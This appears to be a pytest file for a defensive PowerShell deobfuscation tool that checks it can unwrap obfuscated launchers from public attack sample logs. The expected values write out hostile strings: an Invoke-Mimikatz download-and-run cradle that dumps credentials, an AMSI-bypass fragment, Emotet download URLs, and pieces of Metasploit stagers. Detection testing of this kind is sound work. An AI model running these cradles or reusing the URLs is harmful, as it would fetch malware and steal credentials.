"""Real PowerShell obfuscation from the DeepBlueCLI sample logs: Metasploit's psexec stagers and
Invoke-Obfuscation's string and encoding menus, decoded by rules.

Each expectation below was checked by hand against the logged script. Invoke-Obfuscation's launchers
peel in many small layers, so these decodes allow more depth than the default limits.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from shellwatch.decode import encodings, powershell
from shellwatch.decode.engine import decode
from shellwatch.decode.model import DecodeResult, Limits
from tests.conftest import read_events

STEPS = (*powershell.STEPS, *encodings.STEPS)
DEEP = Limits(max_depth=40, max_seconds=5.0, max_ticks=2_000_000)
MIMIKATZ = (
    "iex (new-object net.webclient).downloadstring('https://raw.githubusercontent.com/mattifestation/"
    "powersploit/master/exfiltration/invoke-mimikatz.ps1'); invoke-mimikatz -dumpcreds"
)


def _texts(path: Path, field: str) -> list[str]:
    events, _, _ = read_events(path)
    return [value if isinstance(value, str) else "" for value in (event.get(field) for event in events)]


def _sample(corpus: Path, name: str) -> Path:
    path = corpus / "evtx" / "deepbluecli" / name
    if not path.exists():
        pytest.skip(f"{name} not in the corpus")
    return path


def _plain(result: DecodeResult) -> str:
    """The decoded text in lower case with white space squeezed and doubled quotes undone."""
    return " ".join(result.text.lower().split()).replace("''", "'")


def test_invoke_obfuscation_string_menu_reveals_the_mimikatz_cradle(corpus: Path) -> None:
    texts = _texts(
        _sample(corpus, "Powershell-Invoke-Obfuscation-string-menu.evtx"), "powershell.file.script_block_text"
    )
    assert len(texts) == 4
    for text in texts:
        result = decode(text, STEPS, DEEP)
        assert result.stopped is None
        assert MIMIKATZ in _plain(result), text[:200]
        assert "powershell-iex" in [layer.technique for layer in result.layers]


def test_invoke_obfuscation_concat_and_replace_launcher(corpus: Path) -> None:
    text = _texts(
        _sample(corpus, "Powershell-Invoke-Obfuscation-string-menu.evtx"), "powershell.file.script_block_text"
    )[0]
    result = decode(text, STEPS, DEEP)
    assert [layer.technique for layer in result.layers] == [
        "powershell-char",
        "powershell-concat",
        "powershell-replace",
        "powershell-iex",
    ]
    assert _plain(result) == MIMIKATZ


def test_invoke_obfuscation_encoding_menu_char_codes(corpus: Path) -> None:
    texts = _texts(
        _sample(corpus, "Powershell-Invoke-Obfuscation-encoding-menu.evtx"),
        "powershell.file.script_block_text",
    )
    # 0: [char[]] of decimal codes joined and run through iex built from $env:ComSpec;
    # 1: [string]::Join of a mix of decimal and hexadecimal codes;
    # 20: binary codes cut by ten -split separators, each through [Convert]::ToInt16($_, 2);
    # 39: [char[]] codes each -bxor 0x5d.
    for index in (0, 1, 20, 39):
        assert _plain(decode(texts[index], STEPS, DEEP)) == MIMIKATZ, index
    # The launchers that stay hidden: SecureString (22) and white space (61) encodings.
    revealed = sum(MIMIKATZ in _plain(decode(text, STEPS, DEEP)) for text in texts if text)
    assert revealed >= 6


def test_invoke_obfuscation_many_reveals_the_cradle_in_several_launchers(corpus: Path) -> None:
    texts = _texts(
        _sample(corpus, "Powershell-Invoke-Obfuscation-many.evtx"), "powershell.file.script_block_text"
    )
    # 147: `.((Gv '*mDR*').nAmE[3,11,2]-jOiN'')` (iex) of a concatenation formatted with [char]39.
    assert _plain(decode(texts[147], STEPS, DEEP)) == MIMIKATZ
    hidden = [
        text
        for text in texts
        if text and len(text) < 20_000 and MIMIKATZ not in _plain(decode(text, [], DEEP))
    ]
    revealed = [index for index, text in enumerate(hidden) if MIMIKATZ in _plain(decode(text, STEPS, DEEP))]
    assert len(revealed) >= 6, revealed


@pytest.mark.parametrize("index", [2, 3])
def test_metasploit_psexec_stager_in_a_command_line_is_inflated(corpus: Path, index: int) -> None:
    # The GzipStream stager sits in a quoted -Arguments string, so the generic base64 + gzip layer peels it.
    text = _texts(
        _sample(corpus, "metasploit-psexec-powershell-target-security.evtx"), "process.command_line"
    )[index]
    assert "FromBase64String(''H4sI" in text
    result = decode(text, STEPS)
    assert [layer.technique for layer in result.layers] == ["gzip"]
    assert "[AppDomain]::CurrentDomain.DefineDynamicAssembly" in result.text
    assert "GetProcAddress" in result.text


def test_metasploit_psexec_stager_is_unwrapped(corpus: Path) -> None:
    text = _texts(
        _sample(corpus, "metasploit-psexec-powershell-target-security.evtx"), "process.command_line"
    )[5]
    assert "GzipStream" in text and "ReadToEnd()" in text
    result = decode(text, STEPS)
    assert [layer.technique for layer in result.layers] == ["powershell-compressed", "powershell-iex"]
    assert result.text.startswith('"powershell.exe" -nop -w hidden -c function ')
    assert "[System.Convert]::FromBase64String(" in result.text
    assert "VirtualAlloc" in result.text


def test_metasploit_service_image_path_is_inflated(corpus: Path) -> None:
    path = _sample(corpus, "metasploit-psexec-powershell-target-system.evtx")
    texts = [text for text in _texts(path, "winlog.event_data.ImagePath") if "FromBase64String" in text]
    assert texts
    for text in texts:
        result = decode(text, STEPS)
        assert "gzip" in [layer.technique for layer in result.layers]
        assert "GetProcAddress" in result.text


def test_every_logged_script_decodes_within_the_default_limits_without_error(corpus: Path) -> None:
    names = [
        "Powershell-Invoke-Obfuscation-encoding-menu.evtx",
        "Powershell-Invoke-Obfuscation-string-menu.evtx",
        "metasploit-psexec-powershell-target-security.evtx",
    ]
    for name in names:
        path = _sample(corpus, name)
        for field in ("powershell.file.script_block_text", "process.command_line"):
            for text in _texts(path, field):
                result = decode(text, STEPS)
                assert result.stopped is None, (name, text[:200])


def _file(corpus: Path, folder: str, name: str) -> Path:
    path = corpus / "evtx" / folder / name
    if not path.exists():
        pytest.skip(f"{folder}/{name} not in the corpus")
    return path


CRACKMAPEXEC = (
    "TA0005-Defense_Evasion__T1027-Obfuscated_Files_or_Information__{}-CrackMapExec_payload_execution.evtx"
)


@pytest.mark.parametrize(
    ("name", "field"),
    [
        (CRACKMAPEXEC.format("ID4103-4104"), "powershell.file.script_block_text"),
        (CRACKMAPEXEC.format("ID4103-4104"), "process.command_line"),
        (CRACKMAPEXEC.format("ID1"), "process.command_line"),
    ],
)
def test_crackmapexec_launchers_reveal_the_amsi_bypass_and_mimikatz(
    corpus: Path, name: str, field: str
) -> None:
    # Char codes cut by random separators, rebuilt through ForEach-Object and $OFS or -join, run by
    # `. ( $PsHoME[4]+$PsHoME[34]+'X')` or `.( $ENv:comsPec[4,26,25]-JOIn'')`.
    texts = [text for text in _texts(_file(corpus, "evtx-to-mitre", name), field) if len(text) > 1000]
    assert texts
    for text in texts:
        result = decode(text, STEPS)
        assert result.stopped is None
        assert "powershell-iex" in [layer.technique for layer in result.layers]
        assert "GetField('amsiInitFailed', 'NonPublic,Static')" in result.text
        assert "DownloadString('https://10.23.123.11:443/Invoke-Mimikatz.ps1')" in result.text


def test_emotet_download_cradle_reveals_its_urls(corpus: Path) -> None:
    path = _file(corpus, "sbousseaden", "Other__emotet__exec_emotet_ps_4104.evtx")
    text = _texts(path, "powershell.file.script_block_text")[0]
    result = decode(text, STEPS)
    techniques = [layer.technique for layer in result.layers]
    assert {"powershell-concat", "powershell-format", "powershell-backtick"} <= set(techniques)
    assert "('http://quanticaelectronics.com/wp-admin/7ATr78/*https://rebelcom.ch/" in result.text
    assert "$env:temp+('\\word\\2019\\')" in result.text
    assert ".split('*')" in result.text.lower() and ".DownloadFile(" in result.text


def test_wmimplant_iex_spelling_is_named(corpus: Path) -> None:
    name = (
        "TA0002-Execution__T1047-Windows_Management_Instrumentation__"
        "ID1-WMI_spwaning_PowerShell_process_-_WMImplant.evtx"
    )
    texts = [
        text for text in _texts(_file(corpus, "evtx-to-mitre", name), "process.command_line") if "`" in text
    ]
    assert texts
    assert decode(texts[0], STEPS).text == "powershell $env:I4Pzl|iex"
